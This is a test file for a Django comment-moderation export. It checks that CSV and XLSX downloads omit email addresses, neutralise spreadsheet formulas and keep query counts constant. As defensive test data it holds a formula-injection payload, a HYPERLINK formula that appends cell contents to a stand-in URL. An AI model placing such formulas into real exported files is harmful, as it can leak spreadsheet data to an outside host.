"""What leaves the queue as a table: the list as it is filtered, no addresses, no formulas."""

import csv
import io

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from openpyxl import load_workbook

from comments.models import PublicComment

pytestmark = pytest.mark.django_db

LIST = "/admin/public-comments/"
FORMULA = '=HYPERLINK("http://example.org/"&A1,"open")'


@pytest.fixture
def exported(client, moderator):
    """The content of the file that the list is given out as."""
    client.force_login(moderator)

    def exported(kind="csv", **query):
        response = client.get(LIST, {"export": kind, **query})
        assert f'filename="comments.{kind}"' in response["Content-Disposition"]
        return b"".join(response.streaming_content)

    return exported


def rows(content):
    return list(csv.DictReader(io.StringIO(content.decode())))


def test_the_filtered_list_is_given_out_without_addresses(exported, network, write):
    write("One", email="lena@example.org", name="Lena", state="pending")
    write("Two")
    content = exported(state="pending")
    (row,) = rows(content)
    assert row["Page"] == network.post.title
    assert "One" in row.values()
    assert b"lena@example.org" not in content


def test_no_spreadsheet_runs_what_a_writer_wrote(exported, write):
    comment = write("harmless")
    PublicComment.objects.filter(pk=comment.pk).update(comment=FORMULA, full_name="@SUM(1+1)")
    (row,) = rows(exported())
    assert {f"'{FORMULA}", "'@SUM(1+1)"} <= set(row.values())
    sheet = load_workbook(io.BytesIO(exported("xlsx"))).active
    cells = {cell.value: cell.data_type for line in sheet.iter_rows() for cell in line}
    assert cells[f"'{FORMULA}"] == "s"


def test_many_cost_as_many_queries_as_few(exported, network, write):
    def cost():
        with CaptureQueriesContext(connection) as captured:
            exported()
        return len(captured)

    write()
    cost()
    few = cost()
    for page in (network.post, network.event, network.commitment):
        for _number in range(3):
            write(page=page)
    assert cost() == few
